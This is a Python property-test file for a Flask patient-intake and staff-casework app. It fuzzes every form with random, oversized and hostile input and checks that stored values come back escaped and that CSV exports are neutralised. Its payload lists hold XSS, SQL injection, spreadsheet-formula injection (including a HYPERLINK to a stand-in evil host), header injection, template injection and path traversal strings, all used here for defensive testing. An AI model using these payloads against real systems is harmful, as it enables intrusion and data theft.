"""Property tests: random, oversized, unicode and hostile input to every form never breaks anything.

For every patient form and every staff form, hypothesis posts values drawn from: arbitrary unicode
(RTL overrides, NUL, emoji, combining marks included), text past every limit, and hostile strings (HTML and
script injection, SQL injection, spreadsheet formulas, header injection, template syntax). Whatever comes
in: never a 500; nothing half-stored (screenings and requests appear only after a fully valid submission,
a refused change leaves the request as it was); a refused form comes back with its messages. Then stored
hostile values are shown inert on every staff page and neutralised in the CSV export.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections.abc import Iterator
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
from flask import Flask
from flask.testing import FlaskClient
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select
from werkzeug.test import TestResponse

from app.casework.status import CONTACT_METHODS, CONTACT_OUTCOMES, OUTCOME_LABELS, STATUSES
from app.extensions import db
from app.intake import contact
from app.models import ROLES, ConsultationRequest, Draft, RequestEvent, Screening, StaffSession, StaffUser
from app.screening import InvalidAnswers, validate_answers
from app.screening.questions import BY_FIELD, PAGES
from tests.answers import EVERY_PAGE_ANSWERS, answers_with
from tests.factories import PASSWORD, login, make_staff, patient_request
from tests.journey import CONTACT, answer_all, csrf_token, error_messages, see_result

FEW = settings(max_examples=25, deadline=None, database=None,
               suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])

XSS = "<script>alert(1)</script>"
HOSTILE = (
    XSS, '"><img src=x onerror=alert(1)>', "javascript:alert(1)", "' OR 1=1 --",
    "Robert'); DROP TABLE consultation_request;--", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example")',
    "+1+1", "-2+3", "@SUM(A1:A9)", "\u202eevil\u202c", "\u2066isolate\u2069", "a\x00b", "\x00",
    "👩🏽‍⚕️🦴💊", "Z\u0335\u0321a\u0337\u0334l\u0338g\u0335o\u0336", "e\u0301\u0301\u0301", "\r\nSet-Cookie: x=1",
    "{{ 7*7 }}", "${7*7}", "{% raw %}", "../../etc/passwd", "\ufeff", "ﷺ" * 50, " ", "\t\n", "0", "-1",
    "99999999999999999999", "1e309", "NaN", "[]", "{}", "null",
)
# Werkzeug cannot put lone surrogates in a form post (neither can a browser); everything else goes.
ANY_TEXT = st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=150)
OVERSIZED = ("x" * 70_000, "é" * 40_000)  # past the 64 KB request limit (see the last patient test)


def texts(max_size: int = 150) -> st.SearchStrategy[str]:
    """Hostile, arbitrary or just-too-long text."""
    return st.one_of(st.sampled_from(HOSTILE), ANY_TEXT, st.text(min_size=max_size, max_size=max_size + 60))


def choice_or_junk(codes: list[str]) -> st.SearchStrategy[Any]:
    """A real code, junk text, or a list of either (a select posted several times)."""
    one = st.one_of(st.sampled_from(codes), texts()) if codes else texts()
    return st.one_of(one, one, st.lists(one, max_size=4))


def counts(app: Flask) -> dict[str, int]:
    with app.app_context():
        return {model.__tablename__: int(db.session.scalar(select(func.count()).select_from(model)) or 0)
                for model in (Screening, ConsultationRequest, RequestEvent, StaffUser, StaffSession)}


def assert_inert(response: TestResponse) -> None:
    """No injected markup comes back live."""
    text = response.get_data(as_text=True)
    for raw in (XSS, "<img src=x onerror", "<svg onload"):
        assert raw not in text, raw


def assert_not_500(response: TestResponse, *allowed: int) -> None:
    event(f"{response.request.method} {response.status_code}")  # --hypothesis-show-statistics
    assert response.status_code < 500, response.get_data(as_text=True)[:500]
    assert response.status_code in allowed, response.status_code


# --- patient forms ---------------------------------------------------------------------------------

@pytest.fixture
def patient(app: Flask) -> FlaskClient:
    """A patient who has answered everything and is about to check their answers."""
    client = app.test_client()
    answer_all(client, answers_with())
    return client


def draft_answers(app: Flask) -> list[dict[str, Any]]:
    with app.app_context():
        return [dict(answers) for answers in db.session.scalars(select(Draft.answers))]


@FEW
@given(data=st.data())
def test_any_post_to_any_questionnaire_page(app: Flask, patient: FlaskClient, data: st.DataObject) -> None:
    page = data.draw(st.sampled_from(PAGES), label="page")
    values = {name: data.draw(choice_or_junk([o.code for o in BY_FIELD[name].options]), label=name)
              for name in page.fields}
    values.update(data.draw(st.dictionaries(st.sampled_from(["unknown", "answers", "screening_id"]), texts(20),
                                            max_size=2), label="extra"))
    token = csrf_token(patient.get("/questions/safety").text)
    before, answers_before = counts(app), draft_answers(app)
    response = patient.post(f"/questions/{page.slug}", data={**values, "csrf_token": token})
    assert_not_500(response, 200, 303, 413)
    assert counts(app) == before  # a questionnaire page never stores a screening or a request
    if response.status_code == 200:
        assert "There is a problem" in response.text and error_messages(response.text)
        assert draft_answers(app) == answers_before  # nothing of a refused page is kept
        assert_inert(response)
    # Confirming on the check page stores a screening only when every answer is there and valid.
    before = counts(app)
    confirmed = patient.post("/check-your-answers", data={"csrf_token": token, **values})
    assert_not_500(confirmed, 303)
    try:
        validate_answers(draft_answers(app)[0])
        complete = True
    except InvalidAnswers:
        complete = False
    stored = counts(app)["screening"] - before["screening"]
    assert (confirmed.headers["Location"] == "/result") is complete
    assert stored in ((0, 1) if complete else (0,))  # the same answers confirmed twice reuse their screening


class Patients:
    """Patients at the contact form, one after another (a sent request needs a new patient)."""

    def __init__(self, app: Flask) -> None:
        self.app = app
        self.client = self._fresh()

    def _fresh(self) -> FlaskClient:
        client = self.app.test_client()
        see_result(client, answers_with())
        return client

    def next(self) -> None:
        self.client = self._fresh()


@pytest.fixture
def patients(app: Flask) -> Patients:
    """Shared by every example of a test (hypothesis runs them all inside one function-scoped fixture)."""
    return Patients(app)


def contact_changes() -> st.SearchStrategy[dict[str, Any]]:
    """A few contact fields replaced by anything (the rest stay valid, so many posts are accepted)."""
    fields = [name for name in CONTACT if name != "consent_contact"] + ["consent_contact"]
    codes = {name: [o.code for o in options] for name, options in contact.CHOICES.items()}
    anything = st.dictionaries(st.sampled_from(fields), st.deferred(lambda: texts()), max_size=4).flatmap(
        lambda chosen: st.fixed_dictionaries({name: choice_or_junk(codes.get(name, [])) for name in chosen}))
    # Hostile text where free text is allowed: valid, so it is stored and must come back inert.
    hostile_but_valid = st.fixed_dictionaries({
        "first_name": st.sampled_from([XSS, "' OR 1=1 --", "=cmd|' /C calc'!A0", "👩🏽‍⚕️", "Zoë́"]),
        "message": st.one_of(st.sampled_from(HOSTILE[:12]), ANY_TEXT),
    })
    return st.one_of(anything, hostile_but_valid)


@FEW
@given(changes=contact_changes())
def test_any_post_to_the_contact_form_stores_a_request_only_when_valid_and_sent(
    app: Flask, patients: Patients, changes: dict[str, Any]
) -> None:
    client = patients.client
    values = {**CONTACT, **changes}
    before = counts(app)
    response = client.post("/request", data={**values, "csrf_token": csrf_token(client.get("/request").text)})
    assert_not_500(response, 200, 303, 413)
    assert counts(app) == before  # the details alone are never a request
    if response.status_code == 200:
        assert "There is a problem" in response.text and error_messages(response.text)
        assert_inert(response)
        return
    if response.status_code == 413:
        return
    check = client.get("/request/check")
    assert_not_500(check, 200)
    assert_inert(check)
    sent = client.post("/request/check", data={"csrf_token": csrf_token(check.text)})
    assert sent.headers["Location"] == "/request/sent"
    after = counts(app)
    assert (after["consultation_request"], after["screening"]) == (before["consultation_request"] + 1,
                                                                  before["screening"])
    with app.app_context():
        stored = db.session.scalars(select(ConsultationRequest).order_by(ConsultationRequest.id.desc())).first()
        assert stored is not None
        assert stored.last_name == unicodedata.normalize("NFC", str(values["last_name"]).strip())
    patients.next()


@pytest.mark.parametrize("oversized", OVERSIZED, ids=["ascii", "two-byte"])
def test_an_oversized_post_to_any_form_is_refused_whole(app: Flask, oversized: str) -> None:
    reference = patient_request(app)
    staff = app.test_client()
    login(staff, make_staff(app, "admin"))
    patient = app.test_client()
    see_result(patient, EVERY_PAGE_ANSWERS)
    before = counts(app)
    forms = [(patient, f"/questions/{page.slug}", {name: oversized for name in page.fields}) for page in PAGES]
    forms += [(patient, "/request", {**CONTACT, "message": oversized}), (patient, "/request/check", {}),
              (patient, "/check-your-answers", {"x": oversized}), (staff, "/staff/requests", {"q": oversized})]
    forms += [(staff, f"/staff/requests/{reference}/{action}", {"note": oversized, "text": oversized})
              for action in ("assign", "contact", "status", "note")]
    forms += [(staff, "/staff/admin/accounts", {"name": oversized})]
    for client, url, data in forms:
        token = csrf_token(client.get("/staff/requests" if client is staff else "/questions/safety").text)
        response = client.post(url, data={**data, "filler": oversized, "csrf_token": token})
        assert response.status_code == 413, url
        assert "too long" in response.text
    assert counts(app) == before


# --- staff forms -----------------------------------------------------------------------------------

@pytest.fixture
def desk(app: Flask) -> Iterator[dict[str, Any]]:
    """A stored request and a signed-in admin (every role check passes)."""
    reference = patient_request(app)
    account = make_staff(app, "admin")
    client = app.test_client()
    login(client, account)
    yield {"client": client, "reference": reference, "account": account}


def request_state(app: Flask) -> tuple[int, int, str, str | None]:
    with app.app_context():
        req = db.session.scalars(select(ConsultationRequest)).one()
        events = int(db.session.scalar(select(func.count()).select_from(RequestEvent)) or 0)
        return req.version, events, req.status, req.assignee_id and str(req.assignee_id)


def work_fields(action: str, staff_id: int) -> st.SearchStrategy[dict[str, Any]]:
    note = st.one_of(texts(), st.text(min_size=1990, max_size=2010))
    if action == "assign":
        return st.fixed_dictionaries({"assignee": choice_or_junk(["", str(staff_id)])})
    if action == "contact":
        return st.fixed_dictionaries({"method": choice_or_junk(list(CONTACT_METHODS)),
                                      "outcome": choice_or_junk(list(CONTACT_OUTCOMES)), "note": note})
    if action == "status":
        return st.fixed_dictionaries({
            "status": choice_or_junk(list(STATUSES)), "outcome": choice_or_junk(list(OUTCOME_LABELS)),
            "appointment_date": st.one_of(st.dates().map(str), texts()),
            "appointment_time": st.one_of(st.times().map(lambda t: t.strftime("%H:%M")), texts()), "note": note})
    return st.fixed_dictionaries({"text": note})


@FEW
@given(data=st.data())
def test_any_post_to_any_work_form(app: Flask, desk: dict[str, Any], data: st.DataObject) -> None:
    client, reference = desk["client"], desk["reference"]
    action = data.draw(st.sampled_from(["assign", "contact", "status", "note"]), label="action")
    fields = data.draw(work_fields(action, desk["account"]["id"]), label="fields")
    version, events, _, _ = request_state(app)
    fields["version"] = data.draw(st.one_of(st.just(str(version)), st.just(str(version - 1)), texts(20)),
                                  label="version")
    page = f"/staff/requests/{reference}"
    token = csrf_token(client.get(page).text)
    response = client.post(f"{page}/{action}", data={**fields, "csrf_token": token})
    assert_not_500(response, 303, 400, 409, 413)
    if response.status_code != 303:
        # Refused: the request is exactly as it was, and no timeline entry was added.
        assert request_state(app)[:2] == (version, events)
        assert_inert(response)
    else:
        assert_inert(client.get(page))


@FEW
@given(name=st.one_of(texts(), st.sampled_from(["Ana García", "Zoë O'Brien"])),
       email=st.one_of(st.emails(), texts(40)), role=choice_or_junk(list(ROLES)),
       password=st.one_of(texts(), st.just(PASSWORD)))
def test_any_post_to_the_account_form(app: Flask, desk: dict[str, Any], name: str, email: str, role: Any,
                                      password: str) -> None:
    client = desk["client"]
    before = counts(app)["staff_user"]
    token = csrf_token(client.get("/staff/admin/accounts").text)
    response = client.post("/staff/admin/accounts", data={"name": name, "email": email, "role": role,
                                                          "password": password, "csrf_token": token})
    assert_not_500(response, 303, 400, 413)
    after = counts(app)["staff_user"]
    if response.status_code == 303:
        assert after == before + 1
    else:
        assert after == before
        if response.status_code == 400:
            assert re.search(r'class="[^"]*error', response.text)  # says what to fix
            assert_inert(response)


@settings(FEW, max_examples=10)  # each refused sign-in still hashes a password (argon2): slow by design
@given(email=st.one_of(st.emails(), texts(60)), password=texts(60))
def test_any_post_to_the_sign_in_form(app: Flask, email: str, password: str) -> None:
    client = app.test_client()
    before = counts(app)["staff_session"]
    token = csrf_token(client.get("/staff/login").text)
    response = client.post("/staff/login", data={"email": email, "password": password, "csrf_token": token})
    assert_not_500(response, 200, 400, 413)
    assert counts(app)["staff_session"] == before
    assert client.get("/staff/requests").status_code == 302  # still signed out
    assert_inert(response)


QUERY_KEYS = ["status", "category", "assignee", "from", "to", "search", "after", "q", "staff", "action", "before"]


@FEW
@given(q=texts(), args=st.dictionaries(st.sampled_from(QUERY_KEYS), texts(40), max_size=6))
def test_any_search_and_any_filters(app: Flask, desk: dict[str, Any], q: str, args: dict[str, str]) -> None:
    client = desk["client"]
    token = csrf_token(client.get("/staff/requests").text)
    response = client.post("/staff/requests", data={**args, "q": q, "csrf_token": token})
    assert_not_500(response, 303, 413)
    if response.status_code == 303:
        query = parse_qs(urlsplit(response.headers["Location"]).query)
        assert set(query) <= {"status", "category", "assignee", "from", "to", "search"}  # never the text
        assert_not_500(client.get(response.headers["Location"]), 200)
    for path in ("/staff/requests", "/staff/admin/audit"):
        assert_not_500(client.get(path, query_string=args), 200, 413)
    export = client.get("/staff/requests.csv", query_string=args)
    assert_not_500(export, 200, 303, 413)
    export.close()


# --- stored payloads come back inert ---------------------------------------------------------------

STORED = {
    "first_name": XSS,
    "last_name": "Robert'); DROP TABLE consultation_request;--",
    "message": '=HYPERLINK("http://evil.example/?x="&A1,"Click") <img src=x onerror=alert(1)>',
}


def test_stored_payloads_are_inert_on_every_staff_page_and_in_the_export(app: Flask) -> None:
    reference = patient_request(app, **STORED)
    second = patient_request(app, first_name="+SUM(1,2)", last_name="@cmd", message="-1+1",
                             phone="(415) 555-0188")
    admin = make_staff(app, "admin", name='<svg onload=alert(1)>"Mallory"')
    client = app.test_client()
    login(client, admin)
    page = f"/staff/requests/{reference}"
    version = request_state_by(app, reference)
    for action, data in (("assign", {"assignee": str(admin["id"]), "version": str(version)}),
                         ("note", {"text": f"{XSS} ' OR 1=1 -- =cmd|' /C calc'!A0 {{{{ 7*7 }}}}"})):
        response = client.post(f"{page}/{action}", data={**data, "csrf_token": csrf_token(client.get(page).text)})
        assert response.status_code == 303, (action, response.status_code)
    searched = client.post("/staff/requests", data={"q": STORED["last_name"],
                                                    "csrf_token": csrf_token(client.get("/staff/requests").text)})
    search_page = client.get(searched.headers["Location"])
    assert reference in search_page.text and second not in search_page.text  # found by exact match, as data

    pages = [search_page] + [client.get(path) for path in (
        "/staff/requests", "/staff/requests?status=all", page, f"{page}/print", f"/staff/requests/{second}",
        "/staff/admin/accounts", "/staff/admin/audit", "/staff/admin/outbox")]
    for response in pages:
        assert response.status_code == 200, response.request.path
        text = response.text
        for raw in (XSS, "<img src=x onerror", "<svg onload"):
            assert raw not in text, (response.request.path, raw)
    detail = client.get(page).text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in detail
    assert "Robert&#39;); DROP TABLE consultation_request;--" in detail
    assert "{{ 7*7 }}" in detail  # a note is text, never a template
    assert "&lt;svg onload=alert(1)&gt;&#34;Mallory&#34;" in detail or "&lt;svg onload=alert(1)&gt;&quot;Mallory" \
        in detail

    export = client.get("/staff/requests.csv?status=all")
    rows = list(csv.DictReader(io.StringIO(export.get_data(as_text=True).lstrip("\ufeff"), newline="")))
    by_reference = {row["reference"]: row for row in rows}
    assert by_reference[reference]["message"].startswith("'=HYPERLINK")
    assert by_reference[reference]["first_name"] == XSS  # text, not a formula: left as it is
    assert by_reference[second]["first_name"] == "'+SUM(1,2)"
    assert by_reference[second]["last_name"] == "'@cmd"
    assert by_reference[second]["message"] == "'-1+1"
    formula = re.compile(r"^[=+\-@\t\r]")
    assert not [(ref, name) for ref, row in by_reference.items() for name, value in row.items()
                if formula.match(value)]
    with app.app_context():  # the SQL was stored as text, and the table is all there
        stored = db.session.scalars(select(ConsultationRequest).where(ConsultationRequest.reference == reference)).one()
        assert (stored.first_name, stored.last_name) == (STORED["first_name"], STORED["last_name"])
        assert db.session.scalar(select(func.count()).select_from(ConsultationRequest)) == 2


def request_state_by(app: Flask, reference: str) -> int:
    with app.app_context():
        return int(db.session.scalars(select(ConsultationRequest.version)
                                      .where(ConsultationRequest.reference == reference)).one())
